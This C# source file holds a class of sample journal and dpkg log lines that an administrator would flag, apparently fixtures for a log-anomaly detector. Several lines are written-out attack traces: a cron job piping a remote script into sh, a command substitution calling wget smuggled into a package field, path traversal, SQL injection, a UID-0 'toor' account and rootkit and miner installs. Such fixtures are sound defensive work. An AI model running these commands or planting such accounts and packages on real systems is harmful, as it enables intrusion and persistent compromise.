/// <summary>What is worth an administrator's look, and never occurs on an ordinary day.</summary>
internal static class OddLines
{
    public static IReadOnlyList<string> Journal { get; } =
    [
        "kernel: Out of memory: Killed process 4242 (postgres) total-vm:8123456kB, anon-rss:7900112kB",
        "kernel: EXT4-fs error (device sda1): ext4_lookup:1855: inode #131: comm find: deleted inode referenced",
        "kernel: ata1.00: failed command: READ FPDMA QUEUED",
        "kernel: CPU3: Core temperature above threshold, cpu clock throttled",
        "kernel: nf_conntrack: table full, dropping packet",
        "kernel: nginx[997]: segfault at 0 ip 00007f2b1c rsp 00007ffe9d error 4 in libc.so.6",
        "sshd[4711]: Failed password for invalid user oracle from 203.0.113.9 port 50122 ssh2",
        "sshd[4712]: error: maximum authentication attempts exceeded for root from 203.0.113.9 port 50124 ssh2",
        "sshd[4713]: Bad protocol version identification 'GET / HTTP/1.0' from 203.0.113.9 port 50130",
        "sudo[5001]: www-data : user NOT in sudoers ; TTY=unknown ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh",
        "useradd[5100]: new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash",
        "su[5101]: FAILED SU (to root) backup on pts/2",
        "CRON[5102]: (www-data) CMD (curl -s http://203.0.113.9/x.sh | sh)",
        "nginx[997]: 203.0.113.9 \"GET /../../../../etc/passwd HTTP/1.1\" 400 157",
        "nginx[997]: 203.0.113.9 \"GET /?id=1%27%20OR%201=1-- HTTP/1.1\" 200 99999",
        "nginx[997]: 203.0.113.9 \"POST /wp-login.php HTTP/1.1\" 404 153",
        "systemd[1]: nginx.service: Main process exited, code=killed, status=9/KILL",
        "systemd[1]: Failed to start postgresql.service - PostgreSQL RDBMS.",
        "postfix/smtpd[5200]: warning: non-SMTP command from unknown[203.0.113.9]: GET / HTTP/1.1",
        "auditd[390]: Audit daemon has no space left on logging partition",
    ];

    public static IReadOnlyList<string> Dpkg { get; } =
    [
        "dpkg: error processing archive /var/cache/apt/archives/libssl.deb (--unpack)",
        "dpkg: warning: files list file for package libssl-dev missing",
        "status not-installed openssh-server:amd64 <none>",
        "remove auditd:amd64 1:3.0.9-1 1:3.0.9-1",
        "purge rsyslog:amd64 8.2302.0-1 <none>",
        "install xmrig-miner:amd64 <none> 6.21.0-0",
        "install netcat-traditional:amd64 <none> 1.10-47",
        "install hping3:amd64 <none> 3.a2.ds2-10",
        "upgrade libssl:amd64 3.0.11-1~deb12u2 0.9.8zh-evil",
        "upgrade sudo:amd64 1.9.13p3-1+deb12u1 1.8.2-1",
        "status half-installed /tmp/.x/backdoor.deb <none>",
        "conffile /etc/ssh/sshd_config install",
        "conffile /etc/sudoers keep",
        "configure libxml:amd64 $(wget -qO- 203.0.113.9) <none>",
        "status triggers-awaited initramfs-tools:all 0.142",
        "disappear libaudit-common:all 1:3.0.9-1",
        "startup archives downgrade",
        "status unpacked libgtk",
        "install kmod-rootkit-dkms:all <none> 0.0.1",
        "statusss unpacked libmail:amd64 3.1.4-2",
    ];
}
